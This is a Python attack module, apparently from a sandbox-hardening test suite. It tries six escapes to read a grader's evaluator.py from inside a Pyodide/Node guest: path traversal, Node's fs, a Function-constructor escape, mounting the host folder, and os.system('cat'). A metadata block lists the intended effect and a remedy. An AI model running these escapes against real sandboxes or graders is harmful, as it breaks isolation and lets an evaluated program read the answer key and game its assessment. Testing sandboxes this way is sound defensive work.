# SPDX-License-Identifier: MIT
"""Goal:  the evaluator's source, which is no file of the guest's.
Means: open(), where a folder of the host is mounted; the runtime's own file functions (Node's fs);
       a program of the host's; a path that climbs out of every folder the guest is given.
"""

import os

from attack import DONE, attempting, denied, loot, telling

PATH = "/var/task/evaluator.py"


def by_open():
    with open(PATH) as file:
        return file.read()


def by_climbing():
    for folder in "/tmp", "/opt/ordeal", "/mnt", ".":
        try:
            with open(f"{folder}/{'../' * 12}{PATH[1:]}") as file:
                return file.read()
        except OSError as error:
            why = error
    raise why


def by_javascript():
    import js

    return js.require("fs").readFileSync(PATH, "utf8")


def by_constructor():
    """Where `js` is a bare object: any function leads to Function, and that to Node's modules."""
    import pyodide_js

    function = pyodide_js.constructor.constructor
    return function("return process.getBuiltinModule('fs').readFileSync('%s', 'utf8')" % PATH)()


def by_mounting():
    import pyodide_js

    pyodide_js.mountNodeFS("/host-task", "/var/task")
    with open("/host-task/evaluator.py") as file:
        return file.read()


def by_program():
    os.system(f"cat {PATH} > /tmp/evaluator-copy")
    with open("/tmp/evaluator-copy") as file:
        return file.read()


def run(brief):
    attempting()
    why = None
    for way in by_open, by_climbing, by_javascript, by_constructor, by_mounting, by_program:
        try:
            found = way()
        except BaseException as error:
            found, why = None, telling(why, error)
        if found:
            loot(found)
            return DONE
    return denied(PATH, why)


ATTACK = {
    "effect": "the evaluator's source leaves in the student's output",
    "means": "open(), a climbing path, Node's fs, a mounted host folder, cat(1)",
    "oracle": "secret:task",
    "quick": True,
    "attack_id": "T1005, CWE-552",
    "remedy": "no folder of the host but those needed, looked up beneath them by the kernel",
    "refs": ["openat2(2)"],
    "run": run,
}
